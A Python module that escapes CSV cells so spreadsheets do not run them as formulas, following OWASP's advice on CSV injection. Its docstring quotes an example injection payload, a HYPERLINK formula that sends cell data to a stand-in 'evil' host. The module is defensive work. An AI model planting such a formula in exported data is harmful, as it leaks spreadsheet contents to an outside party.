"""CSV that a spreadsheet opens as data, never as formulas.

Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``,
``-`` or ``@`` (also after leading spaces), or with a tab or carriage return,
as a formula: a title such as ``=HYPERLINK("http://evil/?"&A1, "Open")``
would leak the sheet or run a command. Following OWASP's advice on CSV
injection, such a cell gets a leading single quote, which spreadsheets show as
text and hide.
"""

from __future__ import annotations

import csv
import io
from typing import Any, Iterable, Mapping

FORMULA_STARTS = ("=", "+", "-", "@")
CONTROL_STARTS = ("\t", "\r")


def safe_cell(value: Any) -> str:
    """The cell as text, with a leading ' when a spreadsheet would read it as a formula."""
    text = "" if value is None else str(value)
    if text.startswith(CONTROL_STARTS) or text.lstrip().startswith(FORMULA_STARTS):
        return "'" + text
    return text


def csv_text(columns: list[str], rows: Iterable[Mapping[str, Any]]) -> str:
    """A header and one line per row (CRLF, as RFC 4180 says), every cell through ``safe_cell``."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([safe_cell(column) for column in columns])
    for row in rows:
        writer.writerow([safe_cell(row.get(column, "")) for column in columns])
    return buffer.getvalue()
